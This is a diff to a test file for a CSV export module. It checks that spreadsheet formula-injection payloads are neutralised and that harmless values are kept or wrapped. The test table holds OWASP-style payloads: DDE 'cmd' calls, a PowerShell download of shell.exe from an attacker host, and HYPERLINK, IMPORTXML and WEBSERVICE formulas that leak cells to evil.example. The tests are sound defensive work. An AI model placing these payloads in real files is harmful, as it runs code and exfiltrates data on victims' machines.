@@ -4,7 +4,9 @@ import {
   CSV_COLUMNS,
   csvField,
   exportCsv,
+  isDangerousCell,
   neutraliseFormula,
+  spreadsheetCell,
   UTF8_BOM,
 } from '../../../src/shared/export/csv'
 import { parseCsv } from '../../support/csv-parse'
@@ -64,7 +66,7 @@ describe('exportCsv', () => {
       claim_date: '2024-02-12',
       status: 'disputed',
       confidence: 'medium',
-      links: 'contradicts art-ria/ann-ria-1; supports art-gone/ann-gone',
+      links: 'contradicts: art-ria/ann-ria-1; supports: art-gone/ann-gone',
       note: 'Denial comes from the company itself; no independent confirmation.',
       created_at: '2025-03-02T10:00:00.000Z',
       updated_at: '2025-03-02T10:00:00.000Z',
@@ -89,7 +91,8 @@ describe('exportCsv', () => {
     expect(row1!['article_title']).toBe(`'${HOSTILE_TITLE}`)
     expect(row1!['quote']).toBe(`'${HOSTILE_QUOTE}`)
     expect(row1!['tags']).toBe('needs review; #already-hashed; 12345')
-    expect(row1!['source']).toBe(`'---\nsource: injected`)
+    // A dash with no formula character after it cannot call anything: left as written.
+    expect(row1!['source']).toBe(`---\nsource: injected`)
     expect(row2!['claimant']).toBe(HOSTILE_CLAIMANT)
     expect(row2!['status']).toBe('un|verified')
   })
@@ -111,29 +114,125 @@ describe('exportCsv', () => {
     )
   })
 
+  /** The note cell of a one-annotation export, as written in the file. */
+  function noteCell(value: string, options: Parameters<typeof exportCsv>[1] = {}): string {
+    const csv = exportCsv(
+      [
+        {
+          article: makeArticle({ id: 'a', title: 'A' }),
+          annotations: [
+            makeAnnotation({ id: 'x', articleId: 'a', exact: 'q', start: 0, note: value }),
+          ],
+        },
+      ],
+      options,
+    )
+    const updated = '2025-03-02T10:00:00.000Z'
+    const line = csv.replace(/^\uFEFF/u, '').split('\r\n')[1]!
+    const suffix = `,${updated},${updated}`
+    expect(line.endsWith(suffix)).toBe(true)
+    const record = parseCsv(`${line}\r\n`)[0]!
+    return record[record.length - 3]!
+  }
+
+  // The payloads of OWASP's "CSV Injection" page and its usual variants:
+  // every one must be guarded, in both forms.
   it.each([
-    [
-      '=HYPERLINK("http://evil.example","click")',
-      `"'=HYPERLINK(""http://evil.example"",""click"")"`,
-    ],
-    ['+1 555 0100', "'+1 555 0100"],
-    ['-2%', "'-2%"],
-    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
-    ['\tcmd', "'\tcmd"],
-    ['\r=1', `"'\r=1"`],
+    '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for details")',
+    "=cmd|' /C calc'!A0",
+    "=cmd|' /C notepad'!'A1'",
+    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "=10+20+cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"!A0")A0',
+    '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a")',
+    '=WEBSERVICE("http://evil.example/?"&A1)',
+    '=1+2";=1+2',
+    '=1+1',
+    '@SUM(A1:A9)',
+    "\t=cmd|' /C calc'!A0",
+    '\r=1',
+    "\n-2+3+cmd|' /C calc'!A0",
+    ' =HYPERLINK("http://evil.example")',
+    '\0=1',
+  ])('guards the payload %j', (payload) => {
+    expect(isDangerousCell(payload)).toBe(true)
+    expect(noteCell(payload)).toBe(`'${payload}`)
+    expect(noteCell(payload, { spreadsheet: true })).toBe(`'${payload}`)
+  })
+
+  it.each([
+    ['-1 point', '="-1 point"'],
+    ['+1 555 0100', '="+1 555 0100"'],
+    ['- bullet note', '="- bullet note"'],
+    ['-2%', '="-2%"'],
+    ['@handle', '="@handle"'],
+    ['\tcmd', '\tcmd'],
     ['a = b', 'a = b'],
     ['', ''],
-  ])('guards %j against formula injection', (value, cell) => {
-    const csv = exportCsv([
-      {
-        article: makeArticle({ id: 'a', title: 'A' }),
-        annotations: [
-          makeAnnotation({ id: 'x', articleId: 'a', exact: 'q', start: 0, note: value }),
-        ],
-      },
-    ])
-    const updated = '2025-03-02T10:00:00.000Z'
-    expect(csv.split('\r\n')[1]!.endsWith(`,${cell},${updated},${updated}`)).toBe(true)
+  ])('leaves the harmless %j as written (spreadsheets: %j)', (value, forSpreadsheets) => {
+    expect(isDangerousCell(value)).toBe(false)
+    expect(noteCell(value)).toBe(value)
+    expect(noteCell(value, { spreadsheet: true })).toBe(forSpreadsheets)
+  })
+
+  it.each([
+    ['false', '="false"'],
+    ['TRUE', '="TRUE"'],
+    ['2024', '="2024"'],
+    ['2024-03', '="2024-03"'],
+    ['2024-03-18', '="2024-03-18"'],
+    ['18/03/2024', '="18/03/2024"'],
+    ['1/2', '="1/2"'],
+    ['007', '="007"'],
+    ['50%', '="50%"'],
+    ['1,234.50', '="1,234.50"'],
+    ['1e5', '="1e5"'],
+    ['(5)', '="(5)"'],
+    ['$12', '="$12"'],
+    ['10:30', '="10:30"'],
+    ['3 PM', '="3 PM"'],
+    ['1.50', '="1.50"'],
+    ['1234567890123456789', '="1234567890123456789"'],
+    ['Jan 5', '="Jan 5"'],
+    [' -1 point', '=" -1 point"'],
+    ['Mar 2024', '="Mar 2024"'],
+    ['1-Mar', '="1-Mar"'],
+    ['2025-03-02T10:00:00.000Z', '2025-03-02T10:00:00.000Z'],
+    ['He said "no"', 'He said "no"'],
+    ['Decision', 'Decision'],
+    ['May the best win', 'May the best win'],
+    ['12 "quoted" 34', '12 "quoted" 34'],
+  ])('for spreadsheets writes %j as %j, and as written for scripts', (value, forSpreadsheets) => {
+    expect(noteCell(value, { spreadsheet: true })).toBe(forSpreadsheets)
+    expect(noteCell(value)).toBe(value)
+  })
+
+  it('keeps a coercible value too long for a formula, or with a line break, as written', () => {
+    expect(spreadsheetCell('0'.repeat(256))).toBe('0'.repeat(256))
+    expect(spreadsheetCell('-one\n-two')).toBe('-one\n-two')
+    expect(spreadsheetCell('-say hi')).toBe('="-say hi"')
+  })
+
+  it('writes a byte order mark for spreadsheets', () => {
+    expect(exportCsv(oneArticleInput.articles, { spreadsheet: true }).startsWith(UTF8_BOM)).toBe(
+      true,
+    )
+  })
+
+  it('names linked claims through the resolver, and by ids without one', () => {
+    const resolveLink = (link: { annotationId: string }) =>
+      link.annotationId === 'ann-ria-1'
+        ? { label: '«BMW is leaving Russia» (RIA: BMW leaves)' }
+        : null
+    const [, claim] = rows(exportCsv(twoArticlesInput.articles, { resolveLink }))
+    expect(claim!['links']).toBe(
+      'contradicts: «BMW is leaving Russia» (RIA: BMW leaves); supports: art-gone/ann-gone',
+    )
+    const [, bare] = rows(exportCsv(twoArticlesInput.articles))
+    expect(bare!['links']).toBe('contradicts: art-ria/ann-ria-1; supports: art-gone/ann-gone')
   })
 
   it('round-trips any field through an RFC 4180 parser', () => {
